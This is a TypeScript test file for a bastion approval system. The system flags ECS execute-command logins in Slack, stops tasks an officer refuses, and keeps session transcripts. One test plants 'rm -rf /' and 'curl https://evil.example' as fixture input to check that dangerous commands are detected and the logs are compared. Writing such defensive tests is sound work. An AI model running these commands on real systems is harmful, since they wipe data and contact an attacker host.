import assert from 'node:assert/strict';
import { afterEach, beforeEach, test } from 'node:test';
import { ACTIONS } from '../../people/approval/messages';
import type { ApprovalRequest } from '../../people/approval/record';
import { BastionWorld, hookLine } from './bastion-world';
import { executeCommand, who } from './events';

let world: BastionWorld;
beforeEach(async () => {
  world = await new BastionWorld().start();
});
afterEach(() => world.stop());

const EXEC = 'ecs-execute-command-0a1b2c3d4e5f60718';
const ROOT = 'arn:aws:iam::111122223333:root';

async function logsIn(task: string, by = who('mallory'), command?: string): Promise<ApprovalRequest> {
  await world.login(executeCommand({ task, by, at: world.now, command }));
  await world.settle();
  return (await world.requests.open()).find(({ id }) => id.startsWith('login-'))!;
}

async function refuses(id: string): Promise<void> {
  await world.slack.presses('U0OFFICER0', await world.firstMessage(id), ACTIONS.refuse);
  await world.settle();
  await world.slack.submits('U0OFFICER0', world.slack.views[0], { [ACTIONS.reason]: 'Nobody knows them' });
  await world.settle();
}

test('ATTACK: a task outside of the seats: what is typed there is told in one thread, compared, locked and kept', async () => {
  const task = world.seats.launch(null);
  const { id } = await logsIn(task, who('tanaka'));
  await world.writes(task, [hookLine(0, ''), hookLine(1, 'rm -rf /')]);
  await world.settle();
  assert.ok((await world.thread(id)).some(text => text.includes('Dangerous command')));
  world.transcripts.set(EXEC, 'bastion:/app# rm -rf /\r\nbastion:/app# curl https://evil.example\r\n');
  await world.seats.stopTask(task);
  await world.sweep();
  world.pass({ minutes: 31 });
  await world.sweep();
  await world.settle();
  assert.ok((await world.thread(id)).some(text => text.includes('differ') && text.includes('evil.example')));
  await world.approves(id);
  assert.deepEqual(Object.keys(await world.keptFiles(id)).sort(), ['difference.json', `hook-${task.split('/').pop()}.jsonl`, 'request-events.json', 'session.json', `transcript-${EXEC}.log`]);
});

test('a refusal stops the task', async () => {
  const task = world.seats.launch(null);
  const { id } = await logsIn(task);
  assert.equal(await world.seats.isRunning(task), true);
  await refuses(id);
  assert.equal((await world.store.get(id))!.ended?.why, 'refused');
  assert.equal(await world.seats.isRunning(task), false);
});

test('of somebody else’s login into a session the refusal stops its task; the session goes on, and has the transcript, too', async () => {
  const session = await world.asks();
  const [task] = Object.keys(session.tasks);
  const { id } = await logsIn(task);
  await refuses(id);
  assert.equal(await world.seats.isRunning(task), false);
  assert.equal((await world.store.get(session.id))!.ended, null);
  assert.deepEqual((await world.store.get(session.id))!.logins.map(({ who: arn }) => arn), [who('mallory')]);
});

test('without an answer it ends when a session would have, at the latest', async () => {
  const task = world.seats.launch(null);
  const { id } = await logsIn(task);
  world.pass({ minutes: 239 });
  await world.sweep();
  assert.equal((await world.store.get(id))!.ended, null);
  world.pass({ minutes: 1 });
  await world.sweep();
  assert.equal((await world.store.get(id))!.ended?.why, 'limit');
  assert.equal(await world.seats.isRunning(task), false);
});

test('past the watched shell the task is stopped at once', async () => {
  const task = world.seats.launch(null);
  const { id } = await logsIn(task, who('mallory'), '/bin/sh');
  assert.ok((await world.thread(id)).some(text => text.includes('past the watched shell')));
  assert.equal(await world.seats.isRunning(task), false);
});

for (const [what, by] of [['somebody whom people does not name', who('mallory')], ['root of the account, whom people cannot name', ROOT]]) {
  test(`a login of ${what} is not approved; an officer refuses or closes it, and it is not asked again`, async () => {
    const { id } = await logsIn(world.seats.launch(null), by);
    await world.approves(id);
    assert.equal((await world.requests.get(id))!.status, 'requested');
    await world.slack.replies('U0STRANGER', await world.firstMessage(id), 'close it was me');
    await world.settle();
    assert.equal((await world.requests.get(id))!.status, 'requested', 'not anybody');
    await world.slack.replies('U0OFFICER0', await world.firstMessage(id), 'close a drill of the security team');
    await world.settle();
    assert.equal((await world.requests.get(id))!.status, 'closed');
    world.pass({ hours: 24 });
    await world.followUp(id);
    await world.settle();
    assert.ok(!world.alerts().some(text => text.includes(id) && text.includes('24 hours')));
  });
}
